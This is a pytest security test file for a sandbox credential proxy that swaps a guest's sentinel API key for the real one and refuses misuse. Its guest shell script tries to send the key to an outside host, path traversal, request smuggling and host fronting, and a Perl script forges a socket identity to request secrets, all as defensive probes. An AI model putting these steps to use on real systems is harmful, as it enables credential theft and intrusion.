# SPDX-License-Identifier: LGPL-2.1-or-later
"""Credentials on the booted image: what the guest holds, what the provider gets, and who is refused."""

import json
import re
import time

import pytest
import world as world_module

REAL = world_module.REAL_KEY
CALL = json.dumps({"model": "claude-sonnet-4-5", "stream": True, "max_tokens": 10,
                   "messages": [{"role": "user", "content": "hello"}]})

# Each request prints a line "== NAME STATUS" after its answer.
GUEST = r"""
ask() { name=$1; shift; curl -sS -N -m 20 -w "\n== $name %{http_code}\n" "$@" 2>&1 || echo "== $name failed"; }
api=https://api.anthropic.com/v1
call='""" + CALL + r"""'
echo "sentinel $ANTHROPIC_API_KEY"
ask call -H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json' -d "$call" "$api/messages?beta=true"
ask bearer -H "authorization: Bearer $ANTHROPIC_API_KEY" -d "$call" $api/messages
ask keepalive -H "x-api-key: $ANTHROPIC_API_KEY" $api/models $api/models
ask none $api/models
ask cookie -H "cookie: k=$ANTHROPIC_API_KEY" $api/models
ask query "$api/models?key=$ANTHROPIC_API_KEY"
ask elsewhere -H "x-api-key: $ANTHROPIC_API_KEY" https://www.example.org/
ask elsewhere-body -d "k=$ANTHROPIC_API_KEY" https://www.example.org/
ask foreign -H "x-api-key: sk-ant-somebody-elses-key" $api/models
ask method -X DELETE -H "x-api-key: $ANTHROPIC_API_KEY" $api/models
ask path -H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com/admin
ask dots --path-as-is -H "x-api-key: $ANTHROPIC_API_KEY" "$api/../admin"
ask overlong --path-as-is -H "x-api-key: $ANTHROPIC_API_KEY" "$api/%c0%ae%c0%ae/admin"
ask folded --path-as-is -H "x-api-key: $ANTHROPIC_API_KEY" "$api/%ef%bc%8e%ef%bc%8e/admin"
ask another-host -H 'x-forwarded-host: www.example.org' -H "x-api-key: $ANTHROPIC_API_KEY" $api/models
ask fronting -H 'host: www.example.org' -H "x-api-key: $ANTHROPIC_API_KEY" $api/models
ask smuggled -H "x-api-key: $ANTHROPIC_API_KEY" -H 'transfer-encoding: chunked' -H 'content-length: 4' -d abcd $api/messages
ask override -H 'x-http-method-override: DELETE' -H "x-api-key: $ANTHROPIC_API_KEY" -d x $api/messages
ask control https://www.example.org/
"""


@pytest.fixture(scope="module")
def ran(host, world):
    """One run that asks for everything above."""
    world.forget_logs()
    done = host.exec_run(GUEST, workflow="exec-model")
    assert "== control" in done.stdout, done.stdout + done.stderr
    done.item = host.show(re.search(r"\bi[0-9a-z]{12}\b", done.stdout + done.stderr).group(0))
    done.run = done.item["runs"][0]["id"]
    done.status = dict(re.findall(r"^== (\S+) (\S+)$", done.stdout, re.M))
    done.sentinel = re.search(r"^sentinel (\S+)$", done.stdout, re.M).group(1)
    done.provider = world.log("provider")
    return done


def records(host, run, event):
    """The audit records of one event of a run."""
    lines = host.run(["journalctl", "--namespace=anchorhold", "--no-pager", "-o", "json", f"ANCHORHOLD_RUN={run}",
                      f"ANCHORHOLD_EVENT={event}"]).stdout.splitlines()
    return [json.loads(json.loads(line)["ANCHORHOLD_DATA"]) for line in lines]


def test_guest_has_a_sentinel(ran):
    assert re.fullmatch(r"sk-ant-api03-[A-Za-z0-9_-]{95}", ran.sentinel)
    assert ran.sentinel != REAL
    assert REAL not in ran.stdout + ran.stderr


def test_provider_gets_the_real_key(ran):
    assert ran.status["call"] == ran.status["bearer"] == ran.status["keepalive"] == "200"
    assert "event: message_stop" in ran.stdout
    first = ran.provider[0]
    assert first["path"] == "/v1/messages?beta=true" and first["x_api_key"] == REAL
    assert ran.provider[1]["authorization"] == f"Bearer {REAL}"
    assert first["headers"]["Accept-Encoding"] == "identity"
    assert not any(ran.sentinel in json.dumps(entry) for entry in ran.provider)


def test_no_sentinel_no_key(ran):
    """The request without any reaches the provider without any."""
    assert ran.status["none"] == "200"
    assert [e for e in ran.provider if e["path"] == "/v1/models" and e["x_api_key"] is None and e["authorization"] is None]


@pytest.mark.parametrize("name, status, reason", [
    ("cookie", "403", "credential-misuse"), ("query", "403", "credential-misuse"),
    ("elsewhere", "403", "credential-misuse"), ("elsewhere-body", "403", "credential-misuse"),
    ("foreign", "403", "foreign-credential"), ("method", "403", "credential-scope"), ("path", "403", "credential-scope"),
    ("dots", "400", "path"), ("overlong", "403", "credential-scope"), ("folded", "403", "credential-scope"), ("another-host", "400", "bad-request"), ("fronting", "421", "fronting"), ("smuggled", "400", "bad-request"), ("override", "400", "bad-request"),
])
def test_refused(ran, world, name, status, reason):
    assert ran.status[name] == status
    answer = ran.stdout[:ran.stdout.index(f"\n== {name} ")].splitlines()[-1]
    assert json.loads(answer)["error"]["reason"] == reason
    assert not any("/admin" in entry["path"] or "key=" in entry["path"] for entry in ran.provider)
    assert not any(ran.sentinel in json.dumps(entry) for entry in world.log("origin"))


def test_control_host_answers(ran):
    assert ran.status["control"] == "200"


def test_audit(host, ran):
    used = records(host, ran.run, "credential.used")
    assert used and used[0]["credential"] == "anthropic" and used[0]["name"] == "api.anthropic.com"
    misuse = records(host, ran.run, "credential.misuse")
    assert {"api.anthropic.com", "www.example.org"} <= {record["name"] for record in misuse}
    denied = {r["reason"]: r for r in records(host, ran.run, "conn.deny")}
    assert {"fronting", "foreign-credential", "credential-scope"} <= set(denied)
    assert denied["fronting"]["rule"].startswith("egress/") and denied["fronting"]["detail"] and denied["credential-scope"]["rule"] == "default"
    calls = records(host, ran.run, "model.call")
    assert len(calls) >= 2 and all(call["metered"] and call["status"] == 200 for call in calls[:2])
    everything = host.journal("--namespace=*", "-o", "export", "--all")
    assert REAL not in everything


def test_cost_is_in_the_ledger(host, ran):
    assert ran.item["cost_microusd"] > 0
    usage = ran.item["usage"]
    assert sum(u["cost_microusd"] for u in usage) == ran.item["cost_microusd"]
    assert all(u["model"] == "claude-sonnet-4-5" and u["input_tokens"] > 0 for u in usage[:2])


def test_nothing_stays(host, ran):
    """The run is over: its sealed state is gone, and so is its inject."""
    assert host.run("find /var/lib/anchorhold/secret -maxdepth 1 -type f").stdout == ""      # beside it is the list of tokens, which is another matter
    assert host.is_active(f"anchor-inject@{ran.run}.service") == "inactive"


# Asks secretd as PID 1 would, under a name of one's own choice.
FORGE = r"""
use Socket;
my ($unit, $id) = @ARGV;
socket(my $s, AF_UNIX, SOCK_STREAM, 0) or die;
bind($s, pack('S a*', AF_UNIX, "\0f00d/unit/$unit/$id")) or die "bind: $!";
connect($s, sockaddr_un('/run/anchorhold/secret.sock')) or die "connect: $!";
my $data = ''; while (sysread($s, my $piece, 65536)) { $data .= $piece }
print length($data), "\n";
"""


@pytest.fixture(scope="module")
def living(host):
    """A run that waits until a file of the boot's says what to do next: it makes one call each time it is told."""
    process = host.popen(["anchorctl", "run", "--workflow", "exec-model", "--", "sh", "-c",
                          'for i in $(seq 120); do curl -sS -m 10 -o /dev/null -w "call %{http_code}\\n" '
                          '-H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com/v1/models; sleep 1; done'],
                         user="operator", stdout=-1, stderr=-2, text=True)
    lines = []
    await_line(process, lines, "call 200")
    process.run = host.show(host.items()[0]["id"])["runs"][-1]["id"]
    process.lines = lines
    yield process
    host.anchorctl("stop", "--all", check=False)
    process.wait(30)


def await_line(process, lines, text, seconds=60):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        line = process.stdout.readline()
        assert line, "the run ended:\n" + "".join(lines)
        lines.append(line)
        if text in line:
            return
    raise AssertionError(f"no {text!r} within {seconds} s:\n" + "".join(lines[-20:]))


def test_forged_request_gets_nothing(host, living):
    host.write("/run/forge.pl", FORGE)
    for unit, credential in ((f"anchor-inject@{living.run}.service", "inject"), (f"anchor-run@{living.run}.service", "guest"),
                             ("anchor-secretd.service", "inject"), ("x", "y/z")):
        done = host.run(["perl", "/run/forge.pl", unit, credential], check=False)
        assert done.stdout.strip() == "0", done.stderr
    # nor does a unit that is in the run's slice, but none of the run's
    unit = f"anchor-forge-{living.run}.service"
    for claimed in (unit, f"anchor-inject@{living.run}.service"):
        done = host.run(["systemd-run", "--quiet", "--wait", "--pipe", "--collect", f"--slice=anchorhold-runs-{living.run}.slice", f"--unit={unit}",
                         "sh", "-c", 'grep ^0:: /proc/self/cgroup; perl /run/forge.pl "$@"', "sh", claimed, "inject"])
        where, got = done.stdout.splitlines()
        assert where.endswith(f"/anchorhold-runs-{living.run}.slice/{unit}") and got == "0", done.stdout + done.stderr
    denied = [json.loads(line) for line in host.run(
        ["journalctl", "--namespace=anchorhold", "--no-pager", "-o", "json", "ANCHORHOLD_EVENT=secret.denied"]).stdout.splitlines()]
    assert len(denied) >= 4
    assert any("anchor-inject@" in json.loads(d["ANCHORHOLD_DATA"])["claimed"] for d in denied)


def test_a_unit_of_the_run_gets_no_other_units_credential(host, living):
    """As root in the cgroup of one of its units, which is all that PID 1's own request has. The control: in inject's, what inject gets."""
    host.write("/run/forge.pl", FORGE)
    inject = f"anchor-inject@{living.run}.service"

    def asked(place, claimed, credential):
        group = host.property(place, "ControlGroup")
        assert group.endswith(f"/{place}"), group
        return host.run(f"echo $$ >/sys/fs/cgroup{group}/cgroup.procs && exec perl /run/forge.pl {claimed} {credential}").stdout.strip()

    assert int(asked(inject, inject, "inject")) > 0
    for kind in ("vm", "proxy", "run"):
        place = f"anchor-{kind}@{living.run}.service"
        assert asked(place, place, "inject") == "0"
        assert asked(place, inject, "inject") == "0"
    assert asked(inject, inject, "guest") == "0"


def test_others_cannot_connect(host, living):
    for user in ("operator", "anchorhold", "stranger"):
        assert host.run(["perl", "/run/forge.pl", "x", "y"], user=user, check=False).returncode != 0
        # and the API is for the system's own
        done = host.run(["varlinkctl", "call", "/run/anchorhold/secret-api.sock", "io.anchorhold.Secret.Register", "{}"], user=user, check=False)
        assert done.returncode != 0


def test_processes_are_closed(host, living):
    for unit in ("anchor-secretd.service", f"anchor-inject@{living.run}.service"):
        pid = host.property(unit, "MainPID")
        assert host.run(f"cat /proc/{pid}/limits | grep 'Max core file size'").stdout.split()[4:6] == ["0", "0"]
        # not dumpable: its files in /proc are root's
        assert host.run(f"stat -c %U /proc/{pid}/environ").stdout.strip() == "root"
        assert REAL not in host.run(f"tr '\\0' ' ' </proc/{pid}/environ; tr '\\0' ' ' </proc/{pid}/cmdline").stdout
        status = dict(line.split(":", 1) for line in host.run(f"cat /proc/{pid}/status").stdout.splitlines())
        assert status["VmLck"].split()[0] != "0" and status["VmSwap"].split()[0] == "0"
        assert host.property(unit, "MemorySwapMax") == "0"


def test_revoked_credential_is_refused(host, living):
    """Removed on the host and secretd restarted: the run loses it."""
    host.run("mv /var/lib/anchorhold/credentials/anthropic /var/lib/anchorhold/credentials.anthropic && systemctl restart anchor-secretd.service")
    try:
        await_line(living, living.lines, "call 403", seconds=30)
        done = host.exec_run("true", workflow="exec-model")
        assert done.returncode != 0
        assert "credential anthropic is not on this host" in done.stdout + done.stderr
    finally:
        host.run("mv /var/lib/anchorhold/credentials.anthropic /var/lib/anchorhold/credentials/anthropic && systemctl restart anchor-secretd.service")
